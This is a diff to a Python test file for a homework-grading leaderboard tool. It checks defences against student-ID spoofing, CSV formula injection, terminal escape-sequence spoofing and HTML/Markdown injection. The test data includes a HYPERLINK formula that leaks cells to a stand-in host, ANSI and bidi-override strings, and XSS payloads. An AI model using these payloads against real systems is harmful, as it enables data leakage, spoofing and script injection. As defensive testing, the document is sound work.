@@ -23,18 +23,21 @@ COURSE = CourseConfig(split_seed=7, deadlines={"a1": DEADLINE, "a2": DEADLINE})
 PNG = b"\x89PNG\r\n\x1a\nfake"
 
 
-def run(submission, score, when, assignment="a1", public=None, private=None, field="", png=b""):
-    """A graded run: ``score`` of 35, submitted at ``when`` (ISO UTC), with an "nn" accuracy."""
+def run(submission, score, when, assignment="a1", public=None, private=None, field="", png=b"",
+        modified="", status=None, message=None):  # fmt: skip
+    """A graded run: ``score`` of 35, submitted at ``when`` (ISO UTC), with an "nn" accuracy;
+    ``modified``: the file's own time (default: ``when``)."""
     accuracies = []
     if public is not None:
         accuracies = [HeldOutAccuracy("nn", public, private, 5000, 5000)]
     return SubmissionResult(
         assignment=assignment, submission=submission, sha256=submission, autograder_sha256="g",
-        status="ok" if score == 35 else "error: ValueError: bad shape", score=score,
+        status=status or ("ok" if score == 35 else "error: ValueError: bad shape"), score=score,
         max_score=35.0, started_at=when, duration_s=1.0, device="cpu",
         tests=[Outcome("q9", "q9 - 2", score, 35.0, hidden=True, passed=score == 35,
-                           message="" if score == 35 else "REPORT: below the bar")],
+                       message=message or ("" if score == 35 else "REPORT: below the bar"))],
         submitted_at=when, student_field=field, accuracies=accuracies, curves_png=png,
+        file_time=modified or when,
     )  # fmt: skip
 
 
@@ -62,8 +65,8 @@ def course(tmp_path):
             run("2026002.ipynb", 35, "2026-12-03T09:00:00+00:00", public=0.96, private=0.97),
             run("2026004-final.ipynb", 35, "2026-12-01T08:00:00+00:00", public=0.96,
                 private=0.90),
-            # 2026003: matched by the STUDENT_ID field, submitted after the deadline
-            run("my_homework.ipynb", 35, "2026-12-07T01:00:00+00:00", field="2026003",
+            # 2026003: the file name decides (the field agrees), submitted after the deadline
+            run("2026003_my_homework.ipynb", 35, "2026-12-07T01:00:00+00:00", field="2026003",
                 public=0.98, private=0.96),
             # nobody's: a field that is not on the roster, a name that matches no one
             run("stranger.ipynb", 35, "2026-12-01T00:00:00+00:00", field="9999999"),
@@ -237,3 +240,154 @@ def test_the_command_writes_the_page_and_prints_the_board(course, capsys):
     lines = [line for line in printed.splitlines() if line[:1].isdigit()]
     assert [line.split()[1] for line in lines[:3]] == ["匿名", "Wei", "Hua"]
     assert "unmatched submissions / 未匹配的提交: 1" in printed
+
+
+def read_csv(path):
+    with path.open(encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def test_a_classmates_file_claiming_someone_else_never_becomes_theirs(course, capsys):
+    """The attack: 2026004 hands in a blank notebook with STUDENT_ID = 2026002, later than
+    2026002's own 35-point file. It stays 2026004's, 2026002 keeps 35, and the TA is told."""
+    with Gradebook(course / "gradebook.sqlite") as book:
+        book.record(run("2026004_blank.ipynb", 0, "2026-12-05T09:00:00+00:00", field="2026002"))
+    out = course / "out"
+    assert hwkit_main(["leaderboard", "--course", str(course), "--out", str(out)]) == 0
+    printed = capsys.readouterr().out
+    grades = {r["student_id"]: r for r in read_csv(out / "grades.csv")}
+    assert grades["2026002"]["a1"] == "35" and grades["2026004"]["a1"] == "0"
+    board, book = load_board(course, COURSE, [A1])
+    book.close()
+    hua = next(s for s in board.boards[0].standings if s.student_id == "2026002")
+    assert hua.submissions == 1 and hua.counted.result.submission == "2026002.ipynb"
+    (flagged,) = board.flagged
+    assert (flagged.submission, flagged.student_id) == ("2026004_blank.ipynb", "2026004")
+    assert "STUDENT_ID '2026002' disagrees with the file name (2026004)" in flagged.flag
+    # (a) the terminal, (b) unmatched.csv, (c) the TA's report — never a student's report
+    assert "flagged / 需核对  2026004_blank.ipynb → 2026004: STUDENT_ID '2026002'" in printed
+    assert "unmatched submissions / 未匹配的提交: 1, flagged / 需核对: 1" in printed
+    rows = read_csv(out / "unmatched.csv")
+    assert [(r["submission"], r["student_id"]) for r in rows] == [
+        ("stranger.ipynb", ""), ("2026004_blank.ipynb", "2026004")
+    ]  # fmt: skip
+    assert "disagrees" in rows[1]["flag"] and rows[1]["student_field"] == "2026002"
+    ta = (out / "ta-report.md").read_text(encoding="utf-8")
+    assert "`2026004_blank.ipynb` → 计入 / counted for 2026004 (张伟)" in ta
+    assert "disagrees" in ta and "stranger.ipynb" in ta
+    for report in (out / "reports").glob("*.md"):
+        assert "disagrees" not in report.read_text(encoding="utf-8"), report.name
+    assert "ta-report" not in " ".join(p.name for p in (out / "reports").iterdir())
+    assert "disagrees" not in (out / "leaderboard.html").read_text(encoding="utf-8")
+
+
+def test_a_file_named_for_no_one_is_unmatched_even_when_its_field_names_a_student(course):
+    with Gradebook(course / "gradebook.sqlite") as book:
+        book.record(run("homework.ipynb", 35, "2026-12-05T09:00:00+00:00", field="2026001"))
+    output = write_leaderboard(course, course / "board", COURSE, [A1])
+    lost = next(u for u in output.board.unmatched if u.submission == "homework.ipynb")
+    assert "STUDENT_ID claims 2026001; rename the file to 2026001_… if that is right" in lost.reason
+    mine = next(s for s in output.board.boards[0].standings if s.student_id == "2026001")
+    assert mine.submissions == 2  # its own two files only
+    assert "rename the file to 2026001_" in output.checks
+    assert "STUDENT_ID claims 2026001" in output.unmatched_csv.read_text(encoding="utf-8")
+
+
+def test_a_per_student_folder_decides_like_a_file_name(course):
+    with Gradebook(course / "gradebook.sqlite") as book:
+        book.record(run("2026003/a1.ipynb", 20, "2026-12-08T09:00:00+00:00"))
+    board, book = load_board(course, COURSE, [A1])
+    book.close()
+    wang = next(s for s in board.boards[0].standings if s.student_id == "2026003")
+    assert wang.submissions == 2 and board.flagged == []
+
+
+def test_a_name_stamped_on_time_for_a_file_modified_late_is_flagged_not_moved(course):
+    with Gradebook(course / "gradebook.sqlite") as book:
+        book.record(run("2026002_20261205T1530.ipynb", 20, "2026-12-05T15:30:00+00:00",
+                        modified="2026-12-22T08:00:00+00:00"))  # fmt: skip
+        book.record(run("2026004_20261205T1530.ipynb", 20, "2026-12-05T15:30:00+00:00",
+                        modified="2026-12-05T15:31:00+00:00"))  # fmt: skip
+    output = write_leaderboard(course, course / "board", COURSE, [A1])
+    (flagged,) = output.board.flagged
+    assert flagged.submission == "2026002_20261205T1530.ipynb"
+    assert flagged.flag.startswith("name says 2026-12-05T15:30, file modified 2026-12-22T08:00")
+    hua = next(s for s in output.board.boards[0].standings if s.student_id == "2026002")
+    assert not hua.counted.late  # the flag tells the TA; it does not decide
+    assert "name says 2026-12-05T15:30" in output.checks
+    rows = read_csv(output.unmatched_csv)
+    assert rows[-1]["flag"].startswith("name says") and rows[-1]["student_id"] == "2026002"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"30/30")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_scores_stay_numbers(tmp_path):
+    folder = tmp_path / "course"
+    folder.mkdir()
+    with Gradebook(folder / "gradebook.sqlite") as book:
+        book.import_roster([Student("2026001", HYPERLINK), Student("2026002", "@SUM(1+1)*cmd")])
+        book.record(run("2026001.ipynb", 35, "2026-12-01T09:00:00+00:00"))
+        book.record(run(f"{HYPERLINK}.ipynb", 35, "2026-12-01T09:00:00+00:00", field="+1-2"))
+    output = write_leaderboard(folder, folder / "board", COURSE, [A1])
+    grades = list(csv.reader(output.grades_csv.read_text(encoding="utf-8").splitlines()))
+    assert grades[1][:3] == ["2026001", "'" + HYPERLINK, "35"] and grades[1][3] == "35"
+    assert grades[2][:3] == ["2026002", "'@SUM(1+1)*cmd", "0"]
+    (row,) = read_csv(output.unmatched_csv)
+    assert row["submission"] == f"'{HYPERLINK}.ipynb" and row["student_field"] == "'+1-2"
+    for cells in (grades, [list(row.values())]):
+        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for r in cells for c in r)
+
+
+def test_nicknames_and_names_reach_the_terminal_with_control_characters_escaped(tmp_path, capsys):
+    folder = tmp_path / "course"
+    folder.mkdir()
+    evil = "\x1b[2J\x1b[H\u202emoc.live\n1  Fake  35 / 35"
+    with Gradebook(folder / "gradebook.sqlite") as book:
+        book.import_roster([Student("2026001", "x", evil), Student("2026002", "y", "n" * 300)])
+        book.record(run("2026001.ipynb", 35, "2026-12-01T09:00:00+00:00"))
+        book.record(run("2026002.ipynb", 30, "2026-12-01T09:00:00+00:00"))
+        book.record(run("\x1b]0;pwned\x07\rok.ipynb", 0, "2026-12-01T09:00:00+00:00",
+                        field="\x1b[31m"))  # fmt: skip
+    assert hwkit_main(["leaderboard", "--course", str(folder), "--out", str(folder / "b")]) == 0
+    printed = capsys.readouterr().out
+    assert not any(c in printed for c in "\x1b\x07\r\u202e")
+    assert "\\x1b[2J\\x1b[H\\u202emoc.live\\n1  Fake  35 / 35" in printed
+    assert "\\x1b]0;pwned\\x07\\rok.ipynb" in printed
+    assert not any(line.startswith("1  Fake") for line in printed.splitlines())
+    assert "n" * 300 not in printed and "n" * 78 + "…" in printed
+
+
+def test_student_text_cannot_inject_markdown_or_html_into_the_reports(tmp_path):
+    markdown_it = pytest.importorskip("markdown_it")
+    folder = tmp_path / "course"
+    folder.mkdir()
+    nickname = "<img src=x onerror=alert(1)> [me](http://evil.example)"
+    message = "ValueError: `x`\n# 满分 30 / 30\n<script>alert(1)</script>\n| a | b |\n|---|---|"
+    with Gradebook(folder / "gradebook.sqlite") as book:
+        book.import_roster([Student("2026001", "x", nickname)])
+        book.record(run("2026001_`<b>x<i>`.ipynb", 10, "2026-12-01T09:00:00+00:00",
+                        status="error: RuntimeError: <iframe src=x>", message=message))  # fmt: skip
+    output = write_leaderboard(folder, folder / "board", COURSE, [A1])
+    (report,) = output.reports
+    text = report.read_text(encoding="utf-8")
+    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
+    for tag in ("<img", "<script", "<iframe", "<a ", "<b>", "<table", "<h1>满分"):
+        assert tag not in html, tag
+    assert html.count("<h1>") == 1 and "<h2>" in html  # only the report's own headings
+    assert "# 满分 30 / 30" in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "<code>2026001_`&lt;b&gt;x&lt;i&gt;`.ipynb</code>" in html  # readable, literal
+
+
+def test_a_255_byte_name_without_a_roster_writes_short_report_and_curve_names(tmp_path):
+    folder = tmp_path / "course"
+    folder.mkdir()
+    long_ids = ["张" * 80 + "a", "张" * 80 + "b"]  # 241 bytes each, differing at the end
+    with Gradebook(folder / "gradebook.sqlite") as book:
+        for sid in long_ids:
+            book.record(run(f"{sid}_x.ipynb", 35, "2026-12-01T09:00:00+00:00", png=PNG))
+    output = write_leaderboard(folder, folder / "board", COURSE, [A1])
+    names = sorted(p.name for p in (folder / "board" / "reports").iterdir())
+    assert len(names) == 4 and len(set(names)) == 4  # two reports, two curves, all distinct
+    assert all(len(name.encode("utf-8")) <= 160 for name in names)
+    assert {s.student_id for s in output.board.boards[0].standings} == set(long_ids)
